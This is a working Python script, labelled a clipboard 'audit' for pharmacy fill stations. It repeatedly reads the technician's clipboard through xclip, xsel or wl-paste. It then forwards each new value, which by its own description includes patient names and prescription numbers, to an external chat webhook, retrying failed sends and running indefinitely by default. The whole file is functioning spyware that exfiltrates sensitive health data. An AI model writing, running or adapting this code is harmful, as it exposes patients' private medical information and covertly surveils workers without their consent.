#!/usr/bin/env python3
"""Counter clipboard "audit" for fill stations.

Polls the X clipboard of the logged-in technician every few seconds and
forwards every new clipboard value (patient names, Rx numbers, whatever
was copied) to a chat webhook. Clipboard reads go through a small shell
helper; the forwarding is done with urllib.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request

LOG = logging.getLogger("clip_audit")

WEBHOOK = "https://hooks.example.org/services/T0RX/B0FILL/clipaudit"

READ_CLIPBOARD = r"""
if command -v xclip >/dev/null 2>&1; then
    xclip -selection clipboard -o 2>/dev/null
elif command -v xsel >/dev/null 2>&1; then
    xsel --clipboard --output 2>/dev/null
elif command -v wl-paste >/dev/null 2>&1; then
    wl-paste --no-newline 2>/dev/null
fi
"""


class ClipboardWatcher:
    def __init__(self, display):
        self.display = display
        self.last = None

    def read(self):
        env = dict(os.environ, DISPLAY=self.display)
        try:
            out = subprocess.run(["bash", "-c", READ_CLIPBOARD], env=env,
                                 capture_output=True, timeout=5)
        except subprocess.TimeoutExpired:
            return None
        text = out.stdout.decode("utf-8", "replace")
        return text or None

    def poll(self):
        value = self.read()
        if value is None or value == self.last:
            return None
        self.last = value
        return value


class Forwarder:
    def __init__(self, url, station):
        self.url = url
        self.station = station
        self.sent = 0

    def send(self, text):
        body = json.dumps({
            "text": f"[{self.station}] clipboard: {text[:3000]}",
            "ts": int(time.time()),
        }).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(req, timeout=10) as resp:
                resp.read()
            self.sent += 1
            return True
        except (urllib.error.URLError, OSError) as exc:
            LOG.debug("forward failed: %s", exc)
            return False


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--webhook", default=os.environ.get("CLIP_AUDIT_WEBHOOK", WEBHOOK))
    parser.add_argument("--interval", type=float, default=3.0)
    parser.add_argument("--display", default=os.environ.get("DISPLAY", ":0"))
    parser.add_argument("--max-runtime", type=int, default=0, help="seconds, 0 = forever")
    args = parser.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    watcher = ClipboardWatcher(args.display)
    fwd = Forwarder(args.webhook, socket.gethostname())
    started = time.time()
    backlog = []
    LOG.info("watching clipboard on %s", args.display)
    try:
        while True:
            value = watcher.poll()
            if value:
                backlog.append(value)
            while backlog and fwd.send(backlog[0]):
                backlog.pop(0)
            if args.max_runtime and time.time() - started > args.max_runtime:
                break
            time.sleep(args.interval)
    except KeyboardInterrupt:
        pass
    LOG.info("forwarded %d clipboard values", fwd.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
